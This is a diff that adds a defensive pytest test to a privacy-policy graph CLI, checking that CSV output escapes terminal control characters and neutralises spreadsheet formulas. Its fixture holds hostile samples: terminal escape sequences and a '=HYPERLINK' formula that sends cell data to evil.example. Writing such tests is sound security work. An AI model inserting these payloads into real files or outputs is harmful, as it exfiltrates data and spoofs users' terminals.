@@ -3,6 +3,9 @@ are shown escaped in every command's table output, never sent to the terminal.""
 
 from __future__ import annotations
 
+import csv
+import io
+import re
 from pathlib import Path
 
 from click.testing import CliRunner
@@ -10,6 +13,7 @@ from click.testing import CliRunner
 from pp_graph.cli import main
 from pp_graph.cli.common import printable, table
 
+NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")
 HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x9b31m\u202e"
 
 
@@ -41,3 +45,24 @@ def test_query_table_output_carries_no_escape_sequence(tmp_path: Path) -> None:
     assert res.exit_code == 0, res.output
     assert "\\x1b]0;pwned" in res.output  # the text is there, escaped
     assert not any(c in res.output for c in "\x1b\x07\x9b\u202e")
+
+
+def test_query_csv_output_carries_no_escape_sequence_and_no_formula(tmp_path: Path) -> None:
+    """CSV is data for spreadsheets, yet `cat`-ed it reaches a terminal: controls are escaped as in tables; and a
+    cell that a spreadsheet would run as a formula (=, +, -, @ first) is prefixed with ' so it stays text."""
+    src = tmp_path / "tinyshop.example.md"
+    src.write_text(
+        f"# Privacy\n\nWe collect your email address{HOSTILE} to send receipts.\n\n"
+        '=HYPERLINK("http://evil.example/?"&A1,"x") We collect your phone number to call you.\n',
+        encoding="utf-8",
+    )
+    res = CliRunner().invoke(main, ["convert", str(src), "-o", str(tmp_path / "g")])
+    assert res.exit_code == 0, res.output
+    res = CliRunner().invoke(
+        main, ["query", "practices-of-site", str(tmp_path / "g"), "-p", "site=tinyshop.example", "--format", "csv"]
+    )
+    assert res.exit_code == 0, res.output
+    assert "\\x1b]0;pwned" in res.output and not any(c in res.output for c in "\x1b\x07\x9b\u202e")
+    cells = [c for row in csv.reader(io.StringIO(res.output)) for c in row]
+    assert any(c.startswith("'=HYPERLINK(") for c in cells), cells
+    assert not any(c[:1] in "=+-@" for c in cells if c and not NUMBER.fullmatch(c))
